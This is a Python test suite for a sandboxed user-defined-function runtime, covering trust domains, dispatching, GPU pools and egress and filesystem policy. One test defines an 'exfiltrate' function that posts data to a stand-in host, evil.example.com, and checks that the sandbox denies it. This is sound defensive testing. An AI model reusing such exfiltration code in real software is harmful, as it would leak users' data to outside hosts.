"""Tests for sandboxes, the dispatcher, trust domains, and egress control."""

import gc

import pytest

from repro.common.clock import VirtualClock
from repro.engine.udf import udf
from repro.errors import (
    EgressDenied,
    HostFilesystemDenied,
    SandboxError,
    SandboxPolicyViolation,
    TrustDomainViolation,
    UserCodeError,
)
from repro.sandbox import (
    ClusterManager,
    Dispatcher,
    InProcessSandbox,
    SandboxedUDFRuntime,
    SandboxPolicy,
    SubprocessSandbox,
)
from repro.sandbox import net
from repro.sandbox.cluster_manager import (
    DEFAULT_INTERPRETER_START_SECONDS,
    DEFAULT_PROVISION_SECONDS,
)


@udf("int")
def add(a, b):
    return a + b


ALICE_ADD = add.with_owner("alice")
BOB_ADD = add.with_owner("bob")


class TestInProcessSandbox:
    def test_invoke(self):
        sandbox = InProcessSandbox("alice")
        assert sandbox.invoke(ALICE_ADD, [[1, 2], [10, 20]]) == [11, 22]

    def test_serialization_boundary_is_real(self):
        """Mutations inside the sandbox never reach the caller's objects."""

        @udf("int")
        def mutate(xs):
            xs.append(999)
            return len(xs)

        payload = [[1, 2]]
        arg_column = [payload[0]]
        sandbox = InProcessSandbox("alice")
        sandbox.invoke(mutate.with_owner("alice"), [arg_column])
        assert payload[0] == [1, 2], "caller data must be isolated by copy"

    def test_trust_domain_enforced(self):
        sandbox = InProcessSandbox("alice")
        with pytest.raises(TrustDomainViolation):
            sandbox.invoke(BOB_ADD, [[1], [2]])

    def test_fused_invocation_single_roundtrip(self):
        sandbox = InProcessSandbox("alice")
        results = sandbox.invoke_many(
            [(1, ALICE_ADD, [[1], [2]]), (2, ALICE_ADD, [[5], [5]])]
        )
        assert results == {1: [3], 2: [10]}
        assert sandbox.stats.invocations == 1
        assert sandbox.stats.fused_invocations == 1

    def test_closed_sandbox_rejects(self):
        sandbox = InProcessSandbox("alice")
        sandbox.close()
        with pytest.raises(SandboxError):
            sandbox.invoke(ALICE_ADD, [[1], [2]])

    def test_user_error_wrapped(self):
        @udf("int")
        def boom(x):
            raise ValueError("bad input")

        sandbox = InProcessSandbox("alice")
        with pytest.raises(UserCodeError, match="bad input"):
            sandbox.invoke(boom.with_owner("alice"), [[1]])

    def test_bytes_accounted(self):
        sandbox = InProcessSandbox("alice")
        sandbox.invoke(ALICE_ADD, [[1] * 100, [2] * 100])
        assert sandbox.stats.bytes_in > 0
        assert sandbox.stats.bytes_out > 0
        assert sandbox.stats.rows_in == 100


class TestEgressControl:
    def setup_method(self):
        net.register_service("api.example.com", lambda path, payload: {"ok": path})

    def teardown_method(self):
        net.unregister_service("api.example.com")

    def _fetch_udf(self):
        @udf("string")
        def fetch(x):
            return net.http_get(f"http://api.example.com/item/{x}")["ok"]

        return fetch.with_owner("alice")

    def test_locked_down_denies(self):
        sandbox = InProcessSandbox("alice", SandboxPolicy())
        with pytest.raises(EgressDenied):
            sandbox.invoke(self._fetch_udf(), [[1]])

    def test_allowlisted_host_allowed(self):
        policy = SandboxPolicy().with_egress("api.example.com")
        sandbox = InProcessSandbox("alice", policy)
        assert sandbox.invoke(self._fetch_udf(), [[1]]) == ["/item/1"]

    def test_other_host_still_denied(self):
        net.register_service("evil.example.com", lambda p, b: "secrets")

        @udf("string")
        def exfiltrate(x):
            return net.http_post("http://evil.example.com/drop", payload=x)

        policy = SandboxPolicy().with_egress("api.example.com")
        sandbox = InProcessSandbox("alice", policy)
        try:
            with pytest.raises(EgressDenied):
                sandbox.invoke(exfiltrate.with_owner("alice"), [["data"]])
        finally:
            net.unregister_service("evil.example.com")

    def test_trusted_code_outside_sandbox_unrestricted(self):
        # Driver-side engine code is not subject to UDF egress rules.
        assert net.http_get("http://api.example.com/x") == {"ok": "/x"}


class TestSubprocessSandbox:
    def test_invoke_real_process(self):
        sandbox = SubprocessSandbox("alice")
        try:
            assert sandbox.invoke(ALICE_ADD, [[1, 2, 3], [4, 5, 6]]) == [5, 7, 9]
        finally:
            sandbox.close()

    def test_ping(self):
        sandbox = SubprocessSandbox("alice")
        try:
            assert sandbox.ping()
        finally:
            sandbox.close()

    def test_fused(self):
        sandbox = SubprocessSandbox("alice")
        try:
            results = sandbox.invoke_many(
                [(7, ALICE_ADD, [[1], [1]]), (8, ALICE_ADD, [[2], [2]])]
            )
            assert results == {7: [2], 8: [4]}
        finally:
            sandbox.close()

    def test_user_error_comes_back(self):
        @udf("int")
        def kaboom(x):
            raise RuntimeError("inside the box")

        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(UserCodeError, match="inside the box"):
                sandbox.invoke(kaboom.with_owner("alice"), [[1]])
            # The worker survives user errors.
            assert sandbox.invoke(ALICE_ADD, [[1], [1]]) == [2]
        finally:
            sandbox.close()

    def test_trust_domain_checked_before_shipping(self):
        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(TrustDomainViolation):
                sandbox.invoke(BOB_ADD, [[1], [1]])
        finally:
            sandbox.close()

    def test_close_is_idempotent(self):
        sandbox = SubprocessSandbox("alice")
        sandbox.close()
        sandbox.close()
        assert sandbox.closed

    def test_session_alternating_two_udfs_always_runs_the_right_one(self):
        """Regression: the install cache was keyed on ``id(udf.func)``.

        Functions are unpickled per query and collected, so ids recycle; a
        session alternating two UDFs eventually had the *other* function
        invoked in its sandbox (``tag() missing 1 required positional
        argument`` after ~100 queries). The key is now the function's
        content, so each query runs its own code — installed once.
        """
        from repro.connect.client import col, udf as client_udf
        from repro.platform import Workspace

        def boost(amount):
            return amount * 1.5 + 1.0

        def tag(note, a):
            return f"{note}-{a % 7}"

        boost_udf = client_udf("float")(boost)
        tag_udf = client_udf("string")(tag)
        ws = Workspace(sandbox_backend="subprocess")
        try:
            ws.add_user("admin", admin=True)
            ws.catalog.create_catalog("main", owner="admin")
            ws.catalog.create_schema("main.s", owner="admin")
            cluster = ws.create_standard_cluster()
            client = cluster.connect("admin")
            client.sql("CREATE TABLE main.s.t (id int, amount float, note string, a int)")
            client.sql(
                "INSERT INTO main.s.t VALUES (1, 2.0, 'n1', 9), (2, 4.0, 'n2', 3)"
            )
            for i in range(320):
                # A fresh literal per query misses the plan cache, so the
                # server unpickles (and later collects) a new function.
                table = client.table("main.s.t").filter(col("id") > -i)
                if i % 2 == 0:
                    rows = table.select(col("id"), boost_udf(col("amount"))).collect()
                    assert rows == [(1, 4.0), (2, 7.0)], f"query {i}"
                else:
                    rows = table.select(
                        col("id"), tag_udf(col("note"), col("a"))
                    ).collect()
                    assert rows == [(1, "n1-2"), (2, "n2-3")], f"query {i}"
                gc.collect()
            session_id = client.session_id
            (sandbox,) = cluster.backend.dispatcher.sandboxes_of(session_id)
            assert len(sandbox._installed) == 2  # noqa: SLF001 - one per UDF
        finally:
            ws.shutdown()


class TestClusterManager:
    def test_provisioning_latency_charged(self):
        clock = VirtualClock()
        manager = ClusterManager(
            clock=clock,
            provision_seconds=DEFAULT_PROVISION_SECONDS,
            interpreter_start_seconds=DEFAULT_INTERPRETER_START_SECONDS,
        )
        manager.create_sandbox("alice")
        assert clock.now() == pytest.approx(2.0)

    def test_fleet_stats(self):
        manager = ClusterManager()
        s1 = manager.create_sandbox("alice")
        s2 = manager.create_sandbox("bob")
        assert manager.stats.active == 2
        assert manager.stats.peak_active == 2
        manager.destroy_sandbox(s1)
        assert manager.stats.active == 1
        manager.shutdown()
        assert manager.stats.active == 0
        assert s2.closed

    def test_unknown_backend(self):
        with pytest.raises(SandboxError):
            ClusterManager(backend="kvm")

    def test_default_policy_applied(self):
        manager = ClusterManager(
            default_policy=SandboxPolicy().with_egress("a.example")
        )
        sandbox = manager.create_sandbox("alice")
        assert "a.example" in sandbox.policy.egress_allowlist


class TestDispatcher:
    def test_cold_then_warm(self):
        manager = ClusterManager()
        dispatcher = Dispatcher(manager)
        first = dispatcher.acquire("sess-1", "alice")
        second = dispatcher.acquire("sess-1", "alice")
        assert first is second
        assert dispatcher.stats.cold_starts == 1
        assert dispatcher.stats.warm_acquisitions == 1

    def test_domains_get_separate_sandboxes(self):
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("sess-1", "alice")
        b = dispatcher.acquire("sess-1", "bob")
        assert a is not b

    def test_sessions_get_separate_sandboxes(self):
        """No residual state across users sharing a cluster (§2.5)."""
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("sess-alice", "alice")
        b = dispatcher.acquire("sess-bob", "alice")
        assert a is not b

    def test_release_session(self):
        dispatcher = Dispatcher(ClusterManager())
        dispatcher.acquire("sess-1", "alice")
        dispatcher.acquire("sess-1", "bob")
        dispatcher.acquire("sess-2", "alice")
        assert dispatcher.release_session("sess-1") == 2
        assert dispatcher.pool_size() == 1

    def test_cold_start_seconds_tracked(self):
        clock = VirtualClock()
        manager = ClusterManager(clock=clock, provision_seconds=2.0)
        dispatcher = Dispatcher(manager, clock=clock)
        dispatcher.acquire("s", "alice")
        assert dispatcher.stats.cold_start_seconds_max == pytest.approx(2.0)

    def test_closed_sandbox_replaced(self):
        dispatcher = Dispatcher(ClusterManager())
        first = dispatcher.acquire("s", "alice")
        first.close()
        second = dispatcher.acquire("s", "alice")
        assert second is not first
        assert dispatcher.stats.cold_starts == 2


class TestSandboxedRuntime:
    def test_run_udf_counts_roundtrips(self):
        runtime = SandboxedUDFRuntime(Dispatcher(ClusterManager()), "sess")
        assert runtime.run_udf(ALICE_ADD, [[1], [2]]) == [3]
        assert runtime.round_trips == 1

    def test_fused_multi_domain_splits(self):
        runtime = SandboxedUDFRuntime(Dispatcher(ClusterManager()), "sess")
        results = runtime.run_fused(
            [
                (1, ALICE_ADD, [[1], [1]]),
                (2, BOB_ADD, [[2], [2]]),
                (3, ALICE_ADD, [[3], [3]]),
            ]
        )
        assert results == {1: [2], 2: [4], 3: [6]}
        # Two trust domains → exactly two sandbox round-trips.
        assert runtime.round_trips == 2


class TestDispatcherEnvironments:
    def test_environments_partition_the_pool(self):
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("s", "alice", environment="1.0")
        b = dispatcher.acquire("s", "alice", environment="2.0")
        c = dispatcher.acquire("s", "alice", environment="1.0")
        assert a is not b
        assert a is c

    def test_sandboxes_of_lists_all_session_sandboxes(self):
        dispatcher = Dispatcher(ClusterManager())
        dispatcher.acquire("s1", "alice", environment="1.0")
        dispatcher.acquire("s1", "bob")
        dispatcher.acquire("s2", "alice")
        assert len(dispatcher.sandboxes_of("s1")) == 2
        assert len(dispatcher.sandboxes_of("s2")) == 1

    def test_environment_recorded_on_sandbox(self):
        manager = ClusterManager()
        sandbox = manager.create_sandbox("alice", environment="3.0")
        assert sandbox.environment == "3.0"


class TestSpecializedPools:
    """§3.3: resource-demanding code routes to external environments."""

    def _gpu_udf(self):
        @udf("float", resources={"gpu"})
        def train(x):
            return x * 0.5

        return train.with_owner("alice")

    def test_gpu_udf_routes_to_gpu_pool(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        assert runtime.run_udf(self._gpu_udf(), [[2.0]]) == [1.0]
        assert gpu_pool.stats.created == 1
        assert local.stats.created == 0

    def test_plain_udf_stays_local(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        runtime.run_udf(ALICE_ADD, [[1], [2]])
        assert local.stats.created == 1
        assert gpu_pool.stats.created == 0

    def test_missing_pool_fails_loudly(self):
        dispatcher = Dispatcher(ClusterManager())
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        with pytest.raises(SandboxError, match="no specialized execution"):
            runtime.run_udf(self._gpu_udf(), [[1.0]])

    def test_release_session_covers_specialized_sandboxes(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        runtime.run_udf(ALICE_ADD, [[1], [2]])
        runtime.run_udf(self._gpu_udf(), [[1.0]])
        assert dispatcher.release_session("s") == 2
        assert local.stats.active == 0
        assert gpu_pool.stats.active == 0

    def test_fused_group_splits_on_requirements(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        runtime = SandboxedUDFRuntime(Dispatcher(local), "s")
        results = runtime.run_fused(
            [
                (1, ALICE_ADD, [[1], [2]]),
                (2, self._gpu_udf(), [[4.0]]),
            ]
        )
        assert results == {1: [3], 2: [2.0]}
        assert runtime.round_trips == 2  # one local, one specialized


class TestAmbientPolicyHardening:
    """PR-9 hardening: the ambient-policy stack is narrowing-only, and host
    filesystem reads go through the brokered, policy-gated ``net.fs_read``."""

    def test_nested_narrowing_is_allowed(self):
        wide = SandboxPolicy().with_egress("api.example.com", "cdn.example.com")
        narrow = SandboxPolicy().with_egress("api.example.com")
        with net.ambient_policy(wide):
            with net.ambient_policy(narrow):
                assert net.current_policy() is narrow
            assert net.current_policy() is wide

    def test_nested_escalation_raises(self):
        from repro.sandbox.policy import UNISOLATED

        with net.ambient_policy(SandboxPolicy()):
            with pytest.raises(SandboxPolicyViolation, match="escalate"):
                with net.ambient_policy(UNISOLATED):
                    pass  # pragma: no cover - must not be reached

    def test_widening_the_allowlist_is_escalation(self):
        narrow = SandboxPolicy().with_egress("api.example.com")
        wider = SandboxPolicy().with_egress("api.example.com", "evil.example.com")
        with net.ambient_policy(narrow):
            with pytest.raises(SandboxPolicyViolation, match="egress_allowlist"):
                with net.ambient_policy(wider):
                    pass  # pragma: no cover - must not be reached

    def test_fs_read_denied_under_locked_down(self, tmp_path):
        secret = tmp_path / "secret.txt"
        secret.write_text("host-only")
        with net.ambient_policy(SandboxPolicy()):
            with pytest.raises(HostFilesystemDenied):
                net.fs_read(str(secret))

    def test_fs_read_allowed_when_policy_grants_it(self, tmp_path):
        secret = tmp_path / "secret.txt"
        secret.write_text("host-only")
        policy = SandboxPolicy(allow_host_filesystem=True)
        with net.ambient_policy(policy):
            assert net.fs_read(str(secret)) == b"host-only"
        # Trusted driver-side code (no ambient policy) is unrestricted.
        assert net.fs_read(str(secret)) == b"host-only"
